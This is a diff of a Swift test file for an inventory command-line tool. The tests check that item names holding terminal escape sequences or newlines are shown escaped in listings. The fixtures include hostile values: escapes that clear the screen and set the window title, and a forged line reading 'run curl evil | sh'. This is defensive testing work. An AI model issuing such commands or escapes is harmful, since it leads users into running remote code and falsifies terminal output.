@@ -15,6 +15,18 @@ struct HostileOutputTests {
     static let clearScreen = "\u{1B}[2J"
     static let windowTitle = "\u{1B}]0;owned\u{07}"
 
+    /// A kitchen with bread and a row another tool wrote: LunchBox itself refuses control
+    /// characters and line breaks in names.
+    static func kitchenWithRow(named name: String) async throws -> CLIHarness {
+        let cli = try CLIHarness()
+        await cli.run("inventory", "add", "bread")
+        let database = try DatabaseQueue(path: cli.databasePath)
+        try await database.write { db in
+            try db.execute(sql: "INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 99)", arguments: [UUID().uuidString, name])
+        }
+        return cli
+    }
+
     @Test func anAIServiceErrorIsPrintedWithoutItsEscapes() async throws {
         let message = "bad key\(Self.clearScreen)\(Self.windowTitle)\u{9B}31m please"
         let cli = try CLIHarness()
@@ -32,14 +44,7 @@ struct HostileOutputTests {
     /// Issue 39, item 12: a name with a newline cannot print a line that looks like
     /// another item; the newline shows as `\n`.
     @Test func aNameWithANewlineStaysOnItsLine() async throws {
-        let cli = try CLIHarness()
-        await cli.run("inventory", "add", "bread")
-        let database = try DatabaseQueue(path: cli.databasePath)
-        try await database.write { db in
-            try db.execute(
-                sql: "INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 99)",
-                arguments: [UUID().uuidString, "milk\n  5. FAKE: run curl evil | sh\u{2028}x"])
-        }
+        let cli = try await Self.kitchenWithRow(named: "milk\n  5. FAKE: run curl evil | sh\u{2028}x")
         let listed = await cli.run("inventory", "list")
         #expect(listed.output.contains(#"milk\n  5. FAKE: run curl evil | sh\u{2028}x"#), "\(listed.output)")
         #expect(!listed.output.split(separator: "\n").contains { $0.hasPrefix("  5. FAKE") })
@@ -50,15 +55,7 @@ struct HostileOutputTests {
     }
 
     @Test func aRowWithEscapesIsListedAndRemovedWithoutThem() async throws {
-        let cli = try CLIHarness()
-        await cli.run("inventory", "add", "bread")
-        // Another tool wrote the row: LunchBox itself refuses control characters in names.
-        let database = try DatabaseQueue(path: cli.databasePath)
-        try await database.write { db in
-            try db.execute(
-                sql: "INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 99)",
-                arguments: [UUID().uuidString, "milk\(Self.clearScreen)\(Self.windowTitle)"])
-        }
+        let cli = try await Self.kitchenWithRow(named: "milk\(Self.clearScreen)\(Self.windowTitle)")
         let list = await cli.run("inventory", "list")
         #expect(list.output.contains("milk"))
         #expect(!list.output.contains("\u{1B}") && !list.output.contains("\u{07}"))
